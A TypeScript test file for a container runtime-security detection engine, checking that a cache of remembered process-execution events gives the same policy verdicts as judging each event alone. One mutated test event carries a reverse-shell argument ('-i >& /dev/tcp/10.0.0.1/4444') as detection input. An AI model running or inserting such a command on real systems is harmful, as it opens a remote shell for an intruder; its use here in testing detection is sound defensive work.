import { tmpdir } from 'node:os';
import { loadPolicies } from '@breakwater/engine/policy';
import { Detector } from '@breakwater/engine/policy/events';
import { RuntimeEvent } from '@breakwater/model';
import { builtInPoliciesWithCases } from '@breakwater/sources/policies';
import { describe, expect, it } from 'vitest';
import { openDetection } from '../detection/open-detection.ts';
import { BehaviourMemory } from './known-deeds.ts';

const NOW = '2026-11-21T00:00:00.000Z';

const exec = (over: Partial<RuntimeEvent> = {}): RuntimeEvent => ({
  source: 'tetragon',
  time: NOW,
  type: 'exec',
  container: { id: 'c1' },
  process: { path: '/bin/sh', arguments: '' },
  ...over,
});

describe('deeds that are remembered', () => {
  it('are the same wherever, whenever and under whatever pid, and not where anything differs that behaviours depend on', () => {
    const remembered = new BehaviourMemory();
    const known = remembered.deedOf(exec());
    const process = { path: '/bin/sh', arguments: '-c id', pid: 7, executionId: 'x' };
    expect(remembered.deedOf(exec({ process, time: '2026-11-22T00:00:00.000Z', container: { id: 'c2' } }))).toBe(known);
    for (const other of [
      exec({ type: 'exit' }),
      exec({ source: 'sensor' }),
      exec({ parent: { path: '/bin/sh', arguments: '' } }),
      exec({ process: { path: '/bin/sh', arguments: '', uid: 0 } }),
      exec({ process: { path: '/bin/sh', arguments: '', inImage: true } }),
      exec({ process: { path: '/bin/sh', arguments: '', applet: 'ls' } }),
      exec({ failure: 'EPERM' }),
      exec({ file: { path: '/bin/sh' } }),
    ])
      expect(remembered.deedOf(other)).not.toBe(known);
  });

  it('are found where there are many of one program on one thing', () => {
    const remembered = new BehaviourMemory();
    const users = Array.from({ length: 100 }, (_, uid) => exec({ process: { path: '/bin/sh', arguments: '', uid } }));
    const known = users.map((event) => remembered.deedOf(event));
    expect(new Set(known).size).toBe(100);
    expect(users.map((event) => remembered.deedOf({ ...event }))).toEqual(known);
    for (const [index, event] of users.entries()) expect(remembered.deedOf({ ...event })).toBe(known[index]);
  });

  it('tell policies the same as each event by itself does', () => {
    const ours = builtInPoliciesWithCases().policies;
    const { policies } = loadPolicies(ours);
    const given = ours.flatMap(({ policy }) =>
      policy.spec.cases.flatMap((example) => RuntimeEvent.array().safeParse(example.given['events']).data ?? []),
    );
    expect(given.length).toBeGreaterThan(100);
    const parents = given.flatMap(({ process }) => process ?? []).slice(0, 10);
    // What is the same of those that are alike, and what is not, by turns.
    const events = given.flatMap((event) => [
      event,
      { ...event, process: event.process && { ...event.process, arguments: '-i >& /dev/tcp/10.0.0.1/4444' } },
      { ...event, process: event.process && { ...event.process, inImage: undefined } },
      ...parents.map((parent) => ({ ...event, parent })),
      event,
    ]);
    const remembered = new BehaviourMemory();
    const counts = new Map<string, number>();
    const count = (name: string, by = 1): void => void counts.set(name, (counts.get(name) ?? 0) + by);
    const undecided = new Map<string, { count: number }>();
    const alone = new Detector(policies);
    const together = new Detector(policies, [], undefined, (...what) => {
      const counter = undecided.get(what.join()) ?? { count: 0 };
      undecided.set(what.join(), counter);
      return counter;
    });
    for (const event of events) {
      const each = alone.judge(event);
      const found = together.judge(event, remembered.deedOf(event));
      const isFailure = ({ result }: (typeof each)[number]): boolean => result.verdict === 'fail';
      expect(found.filter(isFailure)).toEqual(each.filter(isFailure));
      for (const { result } of each) if (result.verdict === 'unknown') count(`${result.policy},${result.message}`);
      for (const { result } of found) if (result.verdict === 'unknown') count(`${result.policy},${result.message}`, -1);
    }
    for (const [name, counter] of undecided) count(name, -counter.count);
    expect([...counts].filter(([, left]) => left !== 0)).toEqual([]);
    expect([...undecided.values()].some((counter) => counter.count > 1)).toBe(true);
  });

  it('count what could not be decided as often as it came', async () => {
    const detection = await openDetection({ now: NOW, state: tmpdir() });
    const remembered = new BehaviourMemory();
    for (let round = 0; round < 3; round += 1) detection.take(exec(), remembered.deedOf(exec()));
    detection.take(exec());
    expect(detection.undecided().map((one) => one.count)).toEqual([4]);
  });
});
